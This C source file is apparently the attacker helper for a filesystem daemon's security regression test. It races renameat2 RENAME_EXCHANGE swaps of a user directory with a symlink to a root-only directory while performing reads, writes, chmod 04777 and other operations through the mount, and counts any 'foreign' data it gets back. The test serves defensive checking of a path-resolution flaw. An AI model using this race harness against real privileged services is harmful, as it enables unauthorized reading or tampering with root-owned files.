// The attacker of test/security/escape.test.ts (issue 26), run as an unprivileged user (setpriv).
//
//   racer <op> <seconds> <backing home> <mount home>
//
// A thread swaps, in the backing store and not through the mount, `<backing home>/sub` (a directory of the
// user's own, holding its own file `f`) with `<backing home>/lnk` (a symlink to a root-only directory outside
// the datastore) with renameat2(RENAME_EXCHANGE), as fast as it can. The main thread meanwhile performs <op> on
// `<mount home>/sub/f` (or on a new name in `<mount home>/sub`) through the mount, again and again: the kernel
// checks permission on the user's own file; a daemon that resolves the backing path by string, as root, may land
// in the root-only directory instead. Between tries the racer puts its own state back through a directory fd of
// the real `sub` (never through the mount, never by a path that the swap can redirect).
//
// First CALM_TRIES tries with nothing swapping (each must succeed: an attacker whose op fails anyway proves
// nothing); then the race, until <seconds> or SIGTERM/SIGINT; leaves `sub` a directory again; prints one line:
//   {"op":…,"calm":20,"calmOk":…,"calmErrno":"…","calmForeign":…,
//    "tries":…,"ok":…,"flips":…,"errors":{"EACCES":…},"foreign":…,"foreignHex":"…"}
// `ok`: tries the mount answered with success; `errors`: the others by errno; `foreign`: reads that returned
// bytes other than the user's own file (the first such bytes in `foreignHex`); `flips`: swaps made.
//
//   racer pathchmod <symlink> <octal mode>
//
// open(symlink, O_PATH|O_NOFOLLOW), then chmod("/proc/self/fd/<fd>", mode); prints {"errno":"…"} ("0": done).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop_requested;
static atomic_int stop_flipping;
static atomic_long flips;
static int home_fd;

static void on_signal(int sig) {
  (void)sig;
  stop_requested = 1;
}

static int exchange(void) {
  return (int)syscall(SYS_renameat2, home_fd, "sub", home_fd, "lnk", RENAME_EXCHANGE);
}

static void *flipper(void *arg) {
  (void)arg;
  while (!atomic_load_explicit(&stop_flipping, memory_order_relaxed)) {
    if (exchange() == 0) atomic_fetch_add_explicit(&flips, 1, memory_order_relaxed);
  }
  return NULL;
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void die(const char *what) {
  fprintf(stderr, "racer: %s: %s\n", what, strerror(errno));
  exit(2);
}

#define MAX_ERRNO 200
static long errors[MAX_ERRNO];
static long tries, ok, foreign;
static char foreign_hex[2 * 128 + 1];

/** Tries with nothing swapping, before the race. */
#define CALM_TRIES 20

static const char *const OPS[] = {"read", "write", "chmod", "chown", "truncate", "create", "mkdir", "mknod", "symlink",
                                  "link", "rename", "unlink", "setxattr", "utimens", NULL};
static int sub_fd;
static char own[4096];
static ssize_t own_len;
static char f[4096], f2[4096], g[4096], fresh[4096];
static char buf[4096];
static const char pwned[] = "PWNED BY NOBODY\n";
static const struct timespec epoch[2] = {{1000000000, 0}, {1000000000, 0}};

static void outcome(int result) {
  tries++;
  if (result == 0) ok++;
  else if (errno > 0 && errno < MAX_ERRNO) errors[errno]++;
}

static int path_chmod(const char *link, const char *mode) {
  int fd = open(link, O_PATH | O_NOFOLLOW);
  if (fd < 0) die("open O_PATH");
  char proc[64];
  snprintf(proc, sizeof proc, "/proc/self/fd/%d", fd);
  int r = chmod(proc, (mode_t)strtol(mode, NULL, 8));
  printf("{\"errno\":\"%s\"}\n", r == 0 ? "0" : strerrorname_np(errno));
  return 0;
}

/** One try of `op` through the mount, its outcome counted; then the user's own state put back through sub_fd. */
static void one_try(const char *op) {
  if (strcmp(op, "read") == 0) {
    int fd = open(f, O_RDONLY);
    if (fd < 0) {
      outcome(-1);
      return;
    }
    ssize_t n = pread(fd, buf, sizeof buf, 0);
    int saved = errno;
    close(fd);
    errno = saved;
    outcome(n < 0 ? -1 : 0);
    if (n > 0 && (n != own_len || memcmp(buf, own, (size_t)n) != 0)) {
      if (foreign++ == 0) {
        for (ssize_t i = 0; i < n && i < 128; i++) sprintf(foreign_hex + 2 * i, "%02x", (unsigned char)buf[i]);
      }
    }
  } else if (strcmp(op, "write") == 0) {
    int fd = open(f, O_WRONLY);
    if (fd < 0) {
      outcome(-1);
      return;
    }
    ssize_t n = pwrite(fd, pwned, sizeof pwned - 1, 0);
    int saved = errno;
    close(fd);
    errno = saved;
    outcome(n < 0 ? -1 : 0);
  } else if (strcmp(op, "chmod") == 0) {
    outcome(chmod(f, 04777));
  } else if (strcmp(op, "chown") == 0) {
    // All a user may ask about its own file: its own uid, a group it is in.
    outcome(chown(f, getuid(), getgid()));
  } else if (strcmp(op, "truncate") == 0) {
    outcome(truncate(f, 0));
  } else if (strcmp(op, "create") == 0) {
    int fd = open(fresh, O_CREAT | O_EXCL | O_WRONLY, 0644);
    outcome(fd < 0 ? -1 : 0);
    if (fd >= 0) close(fd);
    unlinkat(sub_fd, "new", 0);
  } else if (strcmp(op, "mkdir") == 0) {
    outcome(mkdir(fresh, 0755));
    unlinkat(sub_fd, "new", AT_REMOVEDIR);
  } else if (strcmp(op, "mknod") == 0) {
    outcome(mknod(fresh, S_IFIFO | 0644, 0));
    unlinkat(sub_fd, "new", 0);
  } else if (strcmp(op, "symlink") == 0) {
    outcome(symlink("f", fresh));
    unlinkat(sub_fd, "new", 0);
  } else if (strcmp(op, "link") == 0) {
    outcome(link(f, f2));
    unlinkat(sub_fd, "f2", 0);
  } else if (strcmp(op, "rename") == 0) {
    outcome(rename(f, g));
    renameat(sub_fd, "g", sub_fd, "f");
  } else if (strcmp(op, "unlink") == 0) {
    int fd = openat(sub_fd, "f", O_CREAT | O_WRONLY | O_NOFOLLOW, 0644);
    if (fd >= 0) close(fd);
    outcome(unlink(f));
  } else if (strcmp(op, "setxattr") == 0) {
    outcome(setxattr(f, "user.x", "pwned", 5, 0));
  } else if (strcmp(op, "utimens") == 0) {
    outcome(utimensat(AT_FDCWD, f, epoch, 0));
  }
}

int main(int argc, char **argv) {
  if (argc == 4 && strcmp(argv[1], "pathchmod") == 0) return path_chmod(argv[2], argv[3]);
  if (argc != 5) {
    fprintf(stderr, "usage: racer <op> <seconds> <backing home> <mount home> | racer pathchmod <symlink> <mode>\n");
    return 2;
  }
  const char *op = argv[1];
  int known = 0;
  for (int i = 0; OPS[i]; i++) known |= strcmp(op, OPS[i]) == 0;
  if (!known) {
    fprintf(stderr, "racer: unknown op %s\n", op);
    return 2;
  }
  double seconds = atof(argv[2]);
  home_fd = open(argv[3], O_DIRECTORY | O_RDONLY);
  if (home_fd < 0) die("open backing home");
  // The real `sub`, whatever the swap does to its name later.
  sub_fd = openat(home_fd, "sub", O_DIRECTORY | O_RDONLY | O_NOFOLLOW);
  if (sub_fd < 0) die("open backing sub");
  {
    int fd = openat(sub_fd, "f", O_RDONLY | O_NOFOLLOW);
    if (fd < 0) die("open own f");
    own_len = read(fd, own, sizeof own);
    if (own_len < 0) die("read own f");
    close(fd);
  }
  snprintf(f, sizeof f, "%s/sub/f", argv[4]);
  snprintf(f2, sizeof f2, "%s/sub/f2", argv[4]);
  snprintf(g, sizeof g, "%s/sub/g", argv[4]);
  snprintf(fresh, sizeof fresh, "%s/sub/new", argv[4]);

  struct sigaction sa = {0};
  sa.sa_handler = on_signal;
  sigaction(SIGTERM, &sa, NULL);
  sigaction(SIGINT, &sa, NULL);

  // Calm first: the op, on the user's own file with nothing swapping, must go through every time (an attacker
  // whose op fails anyway proves nothing).
  for (int i = 0; i < CALM_TRIES; i++) one_try(op);
  const long calm_ok = ok;
  int calm_errno = 0;
  for (int e = 1; e < MAX_ERRNO; e++)
    if (errors[e]) calm_errno = e;
  const long calm_foreign = foreign;
  tries = ok = foreign = 0;
  memset(errors, 0, sizeof errors);

  pthread_t thread;
  if (pthread_create(&thread, NULL, flipper, NULL) != 0) die("pthread_create");
  const double end = now() + seconds;
  while (!stop_requested && now() < end) one_try(op);

  atomic_store(&stop_flipping, 1);
  pthread_join(thread, NULL);
  // Leave `sub` the directory again.
  struct stat st;
  if (fstatat(home_fd, "sub", &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISLNK(st.st_mode) && exchange() == 0) flips++;

  printf("{\"op\":\"%s\",\"calm\":%d,\"calmOk\":%ld,\"calmErrno\":\"%s\",\"calmForeign\":%ld,", op, CALM_TRIES, calm_ok,
         calm_errno ? strerrorname_np(calm_errno) : "", calm_foreign);
  printf("\"tries\":%ld,\"ok\":%ld,\"flips\":%ld,\"errors\":{", tries, ok, atomic_load(&flips));
  const char *sep = "";
  for (int e = 1; e < MAX_ERRNO; e++) {
    if (!errors[e]) continue;
    const char *name = strerrorname_np(e);
    printf("%s\"%s\":%ld", sep, name ? name : "?", errors[e]);
    sep = ",";
  }
  printf("},\"foreign\":%ld,\"foreignHex\":\"%s\"}\n", foreign, foreign_hex);
  return 0;
}
